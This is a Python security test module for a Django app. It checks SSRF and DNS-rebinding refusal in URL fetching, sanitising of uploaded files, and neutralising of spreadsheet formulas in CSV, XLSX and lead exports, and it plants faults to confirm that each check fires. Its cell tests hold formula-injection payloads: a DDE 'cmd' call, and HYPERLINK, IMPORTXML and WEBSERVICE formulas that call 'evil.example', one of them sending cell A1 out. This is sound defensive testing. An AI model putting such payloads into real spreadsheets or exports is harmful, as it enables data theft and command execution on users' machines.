"""G17: nothing inside is fetched, nothing odd is kept as it came, no cell that leaves is a formula.

Addresses are tried directly and as the target of a redirection, in front of a resolver that falls for every
trick; what counts is whether a connection is opened to anything but a public address that was looked at.
Uploads go through the API like anybody's, whole and in parts; what is taken is downloaded again and searched
for what was wrong with it. Cells are written as CSV and XLSX, and exported with leads, and read back.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import itertools
import json
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, contextmanager
from io import BytesIO
from typing import Any
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from python_calamine import CalamineWorkbook

from api import tokens
from prm.files import archives, content, fetching, images, names, serving
from prm.files.errors import FileRefused
from prm.files.kinds import BY_EXTENSION
from prm.modules import sheets
from tests.assurance import Fault, Figure, noticed
from tests.assurance.g9 import silent
from tests.cast import World, build_world
from tests.factories import make_lead
from tests.files import addresses, making, odd

MB = 1024 * 1024
#: Of the odd files, each so-and-so-many-th is sent in parts as well.
IN_PARTS = 6
LEAST = 200 + 300 + 100


Kind = Callable[[int], Iterator[tuple[str, str]]]
#: The kinds of tries that a planted fault is looked for by; all of them where there is none.
scope: tuple[Kind, ...] = ()


def run(size: int) -> Figure:
    """Everything there is; `size` bounds each of the three kinds, for a look at one fault."""
    bad: list[str] = []
    tried = 0
    for label, wrong in (one for kind in scope or (fetches, uploads, cells) for one in kind(size)):
        tried += 1
        if wrong:
            bad.append(f"{label}: {wrong}")
        if noticed(bad):
            break
    least = LEAST if size >= 1000 and not scope else 1
    return Figure(len(bad), tried, "ways that stood open", "tries", least=least, details=bad[:40])


# --- addresses


class Web:
    """In place of the network: names resolve as their owner likes, every server leads to `location`."""

    def __init__(self) -> None:
        self.location = ""
        self.wrong: list[str] = []
        self.open: list[socket.socket] = []
        self.turn = itertools.count()

    def resolve(self, host: str, port: int) -> list[str]:
        if host == "rebound.example":
            # Public for whoever looks, inside for whoever asks again.
            return ["93.184.216.34"] if next(self.turn) % 2 == 0 else ["127.0.0.1"]
        return addresses.resolve(host, port)

    def connect(self, address: str, port: int, seconds: float) -> socket.socket:
        try:
            inside = not _public(ipaddress.ip_address(address))
        except ValueError:
            # A name: whoever connects resolves it again.
            inside = True
        if inside or port not in (80, 443):
            self.wrong.append(f"connected to {address}:{port}")
        ours, theirs = socket.socketpair()
        ours.settimeout(seconds)
        theirs.sendall(f"HTTP/1.1 302 Found\r\nLocation: {self.location}\r\n\r\n".encode("utf-8", "replace"))
        theirs.shutdown(socket.SHUT_WR)
        self.open.append(theirs)
        return ours


def _public(address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> bool:
    """Of another making than the guard's: what Python says, and no way of writing IPv4 as IPv6."""
    if isinstance(address, ipaddress.IPv6Address):
        if address.ipv4_mapped or address.sixtofour or address.teredo or address.scope_id:
            return False
        return address in ipaddress.ip_network("2000::/3") and address.is_global
    return address.is_global and not address.is_multicast and str(address) != "168.63.129.16"


def fetches(size: int) -> Iterator[tuple[str, str]]:
    """Each address directly, and behind a redirection where it can be written in one."""
    every = addresses.refused()[:size]
    for url in [*every, "https://rebound.example/offer.pdf"]:
        yield f"fetch {url!r:.80}", _fetched(url, "")
    for url in every:
        if url.isprintable() and url.isascii() and "://" in url:
            yield f"redirection to {url!r:.80}", _fetched("http://vendor.example/", url)


def _fetched(url: str, location: str) -> str:
    """What went wrong, "" where nothing did."""
    web = Web()
    web.location = location or "http://127.0.0.1/"
    context = mock.Mock()
    context.return_value.wrap_socket.side_effect = lambda sock, server_hostname: sock
    with ExitStack() as stack:
        stack.enter_context(mock.patch.object(fetching, "resolve", web.resolve))
        stack.enter_context(mock.patch.object(fetching, "connect", web.connect))
        stack.enter_context(mock.patch.object(fetching.ssl, "create_default_context", context))
        try:
            fetching.fetch(url, largest=MB, seconds=5).stream.close()
            web.wrong.append("fetched")
        except FileRefused as refusal:
            # A redirection without a host leads to the same server again, which is no way in.
            if refusal.why == "unreachable" or (refusal.why == "redirects" and not location):
                web.wrong.append(f"not refused, but {refusal.why}")
    for one in web.open:
        one.close()
    return "; ".join(web.wrong)


# --- uploads


class Sender:
    """Bob, who has a lead, and sends files to it."""

    def __init__(self, world: World) -> None:
        self.client = Client(headers={"Authorization": f"Token {tokens.issue(world.bob)[0]}"})
        self.record = f"/api/v1/leads/{world.northwind_lead.pk}"

    def whole(self, one: odd.Odd) -> Any:
        form = {"file": SimpleUploadedFile(one.name, one.data)}
        return self.client.post(f"{self.record}/files/", form)

    def in_parts(self, one: odd.Odd) -> Any:
        begun = self.post(f"{self.record}/uploads/", {"name": one.name, "size": len(one.data)})
        offset, response = 0, begun
        while response.status_code in (200, 201) and offset < len(one.data):
            part = one.data[offset : offset + MB]
            response = self.client.patch(
                f"{self.record}/uploads/{begun.json()['id']}/",
                part,
                content_type="application/octet-stream",
                headers={"Upload-Offset": str(offset)},
            )
            offset += len(part)
        return response

    def post(self, path: str, body: Any) -> Any:
        return self.client.post(path, json.dumps(body), content_type="application/json")


def uploads(size: int) -> Iterator[tuple[str, str]]:
    """Odd files, which are refused or come out harmless; and right ones, which are taken."""
    with silent(), transaction.atomic():
        sender = Sender(build_world())
        for number, one in enumerate(odd.refusals()[:size]):
            yield f"upload {one.label}", _refused(sender.whole(one))
            if number % IN_PARTS == 0:
                yield f"upload in parts {one.label}", _refused(sender.in_parts(one))
        for one in odd.survivors():
            yield f"upload {one.label}", _harmless(sender, sender.whole(one), one)
        for name, data in making.right_ones().items():
            status = sender.whole(odd.Odd("right", name, data)).status_code
            yield f"upload right {name}", "" if status == 201 else f"a right file answered with {status}"
        transaction.set_rollback(True)


def _refused(response: Any) -> str:
    if response.status_code not in (400, 422):
        return f"answered with {response.status_code}"
    return ""


def _harmless(sender: Sender, response: Any, one: odd.Odd) -> str:
    """Whether what was taken can do no harm when it is downloaded."""
    if response.status_code in (400, 422):
        return ""
    if response.status_code != 201:
        return f"answered with {response.status_code}"
    path = f"{sender.record}/files/{response.json()['id']}/content/"
    back = sender.client.get(path)
    body = b"".join(back.streaming_content)  # type: ignore[attr-defined]
    wrong = [repr(part[:20]) for part in one.gone if part in body]
    disposition = back["Content-Disposition"]
    name = response.json()["name"]
    if not disposition.startswith("attachment"):
        wrong.append(disposition)
    if "sandbox" not in back["Content-Security-Policy"] or back["X-Content-Type-Options"] != "nosniff":
        wrong.append("no guards")
    if not name.isprintable() or set(name) & set('/\\:"<>|') or len(name.encode()) > 255 or "\u202e" in name:
        wrong.append(f"named {name!r}")
    return ", ".join(wrong)


# --- cells

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
)
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"Click")',
    'IMPORTXML("http://evil.example","//a")',
    "SUM(A1:A9)*DDE(1)",
    "A1",
    'WEBSERVICE("http://evil.example")',
)


def formulas() -> list[str]:
    """Texts that a spreadsheet would run."""
    every = [start + formula for start, formula in itertools.product(STARTS, FORMULAS)]
    return [*every, "\tx", "\rx", "-2+3+cmd|' /C calc'!A0", '"=1+1"', "'=1+1", "=1\n=2", "@SUM(1)\t=1", "-@x"]


def cells(size: int) -> Iterator[tuple[str, str]]:
    """Each text as a cell of CSV and of XLSX; numbers and plain words must come through as they are."""
    texts = formulas()[:size]
    plain = ["-1", "+49 30 1234", "1,234.50", "Fabrikam", "a=b", "", "x@y.example"]
    rows: list[list[Any]] = [["head"], *([text] for text in texts), *([text] for text in plain)]
    told = b"".join(sheets.csv_bytes(rows)).decode("utf-8-sig")
    for text, (cell,) in zip(texts, list(csv.reader(io.StringIO(told, newline="")))[1:], strict=False):
        yield f"CSV {text!r}", f"left as {cell!r}" if _runs(cell) else ""
    file = BytesIO()
    sheets.write_xlsx(file, rows)
    with zipfile.ZipFile(file) as book:
        formula = b"<f" in book.read("xl/worksheets/sheet1.xml").replace(b"<f>0", b"<f>")
    file.seek(0)
    found = CalamineWorkbook.from_filelike(file).get_sheet_by_index(0).to_python(skip_empty_area=False)
    for text, row in zip(texts, found[1:], strict=False):
        yield f"XLSX {text!r}", "a formula" if formula or _runs(str(row[0])) else ""

    yield from exported(texts)


def exported(texts: list[str]) -> Iterator[tuple[str, str]]:
    """The same texts as topics of leads, in the export that the API gives."""
    with silent(), transaction.atomic():
        world = build_world()
        for text in texts:
            make_lead("new", topic=text)
        client = Client(headers={"Authorization": f"Token {tokens.issue(world.admin)[0]}"})
        response = client.get("/api/v1/leads/export/?columns=topic")
        told = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
        transaction.set_rollback(True)
    found = list(csv.reader(io.StringIO(told, newline="")))[1:]
    yield "export of all rows", "" if len(found) >= len(texts) else f"{len(found)} rows"
    for row in found:
        yield f"export {row!r}", "a formula" if any(map(_runs, row)) else ""


def _runs(cell: str) -> bool:
    """Whether a spreadsheet takes this for more than text; an apostrophe in front makes text of anything."""
    core = cell.lstrip(' \t\r\n\u00a0\ufeff\u200b"')
    return cell[:1] in ("\t", "\r", "\n") or core[:1] in tuple("=+-@＝＋－＠")


# --- planted faults


def _patched(kind: Kind, *patches: tuple[Any, str, Any]) -> Callable[[], AbstractContextManager[object]]:
    """Patches that the tries of one kind must notice."""

    @contextmanager
    def plant() -> Iterator[None]:
        with ExitStack() as stack:
            stack.enter_context(mock.patch(f"{__name__}.scope", (kind,)))
            for target, name, wrong in patches:
                stack.enter_context(mock.patch.object(target, name, wrong))
            yield

    return plant


def _resolved_again(self: Any) -> None:
    self.sock = fetching.connect(self.host, self.port, 5)


_hops = threading.local()
_right_fetch, _right_public, _right_parse = fetching.fetch, fetching._public, fetching.parse


def _counted_fetch(url: str, **options: Any) -> Any:
    _hops.count = 0
    return _right_fetch(url, **options)


def _first_parse(url: str) -> Any:
    _hops.count += 1
    return _right_parse(url)


def _first_public(text: str) -> Any:
    """Looks at the first hop only."""
    return _right_public(text) if _hops.count < 2 else ipaddress.ip_address(text)


def _by_python(address: Any) -> bool:
    return not address.is_global


def _as_it_is(host: str, *, bracketed: bool) -> str:
    return host


def _by_name(stream: Any, name: str, size: int) -> Any:
    return BY_EXTENSION.get(names.extension(name), BY_EXTENSION["txt"])


def _as_it_came(stream: Any, **options: Any) -> images.Picture:
    stream.seek(0)
    return images.Picture(stream.read(), "image/png", 1, 1)


_right_guarded = serving._guarded


def _inline(response: Any, name: str, *, inline: bool) -> Any:
    return _right_guarded(response, name, inline=True)


class _Never:
    """A pattern that finds nothing."""

    def search(self, text: Any) -> None: ...
    def match(self, text: Any) -> None: ...


FAULTS = {
    "addresses are not looked at": Fault(_patched(fetches, (fetching, "forbidden", lambda address: False))),
    "the name is resolved again when connecting": Fault(
        _patched(fetches, (fetching._Connection, "connect", _resolved_again))
    ),
    "redirections are not looked at": Fault(
        _patched(
            fetches,
            (fetching, "fetch", _counted_fetch),
            (fetching, "parse", _first_parse),
            (fetching, "_public", _first_public),
        )
    ),
    "IPv4 within IPv6 passes for public": Fault(_patched(fetches, (fetching, "forbidden", _by_python))),
    "hosts are taken as they are spelled": Fault(_patched(fetches, (fetching, "_host", _as_it_is))),
    "the ending is trusted": Fault(_patched(uploads, (content, "_kind", _by_name))),
    "pages and SVG pass for text": Fault(_patched(uploads, (content, "_MARKUP", _Never()))),
    "names are kept as they came": Fault(_patched(uploads, (names, "clean", lambda name: name))),
    "pictures are kept as they came": Fault(_patched(uploads, (images, "reencode", _as_it_came))),
    "files are shown by the browser": Fault(_patched(uploads, (serving, "_guarded", _inline))),
    "macros are not looked for": Fault(_patched(uploads, (archives, "_MACROS", _Never()))),
    "archives are not measured": Fault(
        _patched(uploads, (archives, "_check_entries", lambda entries, size: None))
    ),
    "formulas are written as they are": Fault(_patched(cells, (sheets, "neutral", lambda text: text))),
}
